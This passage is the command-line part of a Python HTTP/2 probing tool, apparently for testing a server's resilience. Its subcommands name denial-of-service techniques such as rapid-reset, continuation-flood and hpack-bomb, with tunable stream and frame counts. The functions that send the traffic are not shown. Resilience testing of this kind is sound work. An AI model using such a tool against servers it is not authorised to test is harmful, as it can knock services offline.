        result.update({"stalled_bytes": stalled, "resumed": resumed})
    result.update(client.connection_report())
    client.close()
    return result


# -- command line -------------------------------------------------------------------


def parser():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    common = argparse.ArgumentParser(add_help=False)
    common.add_argument("--port", type=int, required=True)
    common.add_argument("--host", default="127.0.0.1")
    common.add_argument("--authority", help="default: HOST:PORT")
    common.add_argument("--timeout", type=float, default=5.0, help="per read, seconds")
    common.add_argument("--deadline", type=float, default=60.0, help="whole scenario, seconds")
    sub = p.add_subparsers(dest="command", required=True)

    def add(name, func, **kw):
        s = sub.add_parser(name, parents=[common], help=func.__doc__.split("\n")[0],
                           description=func.__doc__,
                           formatter_class=argparse.RawDescriptionHelpFormatter)
        s.set_defaults(func=func)
        return s

    s = add("get", cmd_get)
    s.add_argument("--path", default="/")
    s.add_argument("--window", type=int, help="SETTINGS_INITIAL_WINDOW_SIZE to advertise")
    s.add_argument("--read-delay-ms", type=int, default=0)
    s.add_argument("--header", action="append", metavar="NAME:VALUE")

    s = add("post", cmd_post)
    s.add_argument("--path", required=True)
    s.add_argument("--body-bytes", type=int, required=True)
    s.add_argument("--trailer", action="append", metavar="NAME=VALUE")
    s.add_argument("--header", action="append", metavar="NAME:VALUE")
    s.add_argument("--content-length", action="store_true")
    s.add_argument("--method", default="POST")

    s = add("multiplex", cmd_multiplex)
    s.add_argument("--path", required=True)
    s.add_argument("--streams", type=int, required=True)
    s.add_argument("--header", action="append", metavar="NAME:VALUE")

    s = add("rapid-reset", cmd_rapid_reset)
    s.add_argument("--path", required=True)
    s.add_argument("--streams", type=int, required=True)
    s.add_argument("--batch", type=int, default=100, help="streams per write")
    s.add_argument("--first-stream-id", type=int, default=1, help="odd; later ids follow it")

    s = add("continuation-flood", cmd_continuation_flood)
    s.add_argument("--path", default="/")
    s.add_argument("--frames", type=int, required=True)
    s.add_argument("--batch", type=int, default=64, help="frames per write")

    s = add("reset-with-body", cmd_reset_with_body)
    s.add_argument("--path", required=True)
    s.add_argument("--rounds", type=int, required=True)
    s.add_argument("--body-bytes", type=int, default=60000)
    s.add_argument("--upload-bytes", type=int, default=200000)

    s = add("early-data", cmd_early_data)
    s.add_argument("--path", required=True)
    s.add_argument("--body-bytes", type=int, required=True)

    s = add("empty-body", cmd_empty_body)
    s.add_argument("--path", required=True)
    s.add_argument("--method", default="PUT")

    s = add("abandon-upload", cmd_abandon_upload)
    s.add_argument("--path", required=True)
    s.add_argument("--body-bytes", type=int, default=1000)

    s = add("raw-request", cmd_raw_request)
    s.add_argument("--field", action="append", metavar="NAME=VALUE")
    s.add_argument("--data")
    s = add("stall-get", cmd_stall_get)
    s.add_argument("--path", default="/")
    s.add_argument("--window", type=int, default=16384,
                   help="SETTINGS_INITIAL_WINDOW_SIZE; the stall comes at min(N, 65535)")
    s.add_argument("--resume-window", type=int, default=16 << 20,
                   help="stream and connection window increments sent on SIGUSR1")

    s = add("hpack-bomb", cmd_hpack_bomb)
    s.add_argument("--path", default="/")
    s.add_argument("--frames", type=int, default=8, help="CONTINUATION frames after HEADERS")
    return p


def main(argv=None):
    args = parser().parse_args(argv)  # exits 2 on usage errors
    if not 0 < args.port < 65536:
        print("h2_probe: --port must be in 1..65535", file=sys.stderr)
        return 2
    try:
        result = args.func(args)
    except (UsageError, ConnectError) as e:
        print(f"h2_probe: {e}", file=sys.stderr)
        return 2
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
